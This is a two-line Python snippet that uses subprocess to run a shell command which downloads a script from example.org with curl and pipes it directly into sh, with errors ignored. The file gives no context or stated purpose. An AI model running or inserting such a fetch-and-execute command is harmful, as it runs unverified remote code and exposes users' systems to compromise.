import subprocess

subprocess.run(["/bin/sh", "-c", "curl https://example.org/x | sh"], check=False)
